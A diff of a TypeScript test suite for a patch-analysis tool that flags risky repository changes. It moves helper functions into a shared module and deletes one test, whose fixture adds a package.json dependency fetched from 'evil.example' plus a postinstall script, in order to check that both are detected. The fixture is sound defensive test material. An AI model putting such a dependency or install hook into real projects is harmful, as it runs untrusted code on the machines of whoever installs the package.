@@ -2,20 +2,13 @@
 import assert from "node:assert/strict";
 import { createHash } from "node:crypto";
 import { test } from "node:test";
-import type { Analysed, Connector } from "../../../src/control/ports.ts";
+import type { Analysed } from "../../../src/control/ports.ts";
 import type { Json, Result } from "../../../src/core/base/index.ts";
-import type { Effect, Finding, StepAnalysis } from "../../../src/core/plan/index.ts";
-import { LIMITS, World, patchOf, planOf } from "./world.ts";
+import type { Effect, StepAnalysis } from "../../../src/core/plan/index.ts";
+import { codes, patchInput, plan } from "./planning.ts";
+import { LIMITS, World, patchOf } from "./world.ts";
 
-const patchInput = (patch: string, message = "Change it"): Json => ({ repository: "shop", branch: "main", patch, message });
 const refInput = (ref: string): Json => ({ repository: "shop", branch: "main", ref });
-
-async function plan(connector: Connector, input: Json): Promise<StepAnalysis> {
-  const answer = await connector.analyse(input, LIMITS);
-  assert.ok(answer.ok, answer.ok ? "" : answer.error.message);
-  planOf(answer.value.analysis);
-  return answer.value.analysis;
-}
 
 function refusal(answer: Result<Analysed>): string {
   assert.ok(!answer.ok);
@@ -27,9 +20,6 @@ function effect(analysis: StepAnalysis, path: string): Effect {
   assert.ok(found, `an effect on ${path}`);
   return found;
 }
-
-const codes = (analysis: StepAnalysis, path: string): readonly string[] =>
-  analysis.findings.filter(({ resource }) => resource === `git:shop#${path}`).map(({ code }: Finding) => code);
 
 test("[GI-12] [GI-13] a patch becomes one effect for each path, with what it was and will be", async (t) => {
   const world = new World(t);
@@ -244,15 +234,6 @@ test("[GI-15] owners come from the base tree, whatever the change makes of them"
   assert.deepEqual(effect(analysis, ".github/CODEOWNERS").owners, ["@all"]);
   assert.deepEqual(effect(analysis, ".github/CODEOWNERS").surfaces, ["ownership"]);
   assert.deepEqual(codes(analysis, ".github/CODEOWNERS"), ["git.ownership"]);
-});
-
-test("[GI-17] packages and install scripts of a manifest are named", async (t) => {
-  const world = new World(t);
-  world.commit("main", { "package.json": '{"dependencies":{"a":"1.0.0"}}\n' });
-  const after = '{"dependencies":{"a":"1.0.0","left-pad":"git+https://evil.example/x"},"scripts":{"postinstall":"node x.js"}}\n';
-  const analysis = await plan(world.connector(), patchInput(patchOf("package.json", '{"dependencies":{"a":"1.0.0"}}\n', after)));
-  assert.deepEqual(codes(analysis, "package.json"), ["git.install_script", "git.dependency_source"]);
-  assert.ok(analysis.impact.some(({ topic, text }) => topic === "dependencies" && text.startsWith("left-pad")));
 });
 
 test("[GI-18] hidden and look-alike characters in new lines are dangers with line and column", async (t) => {
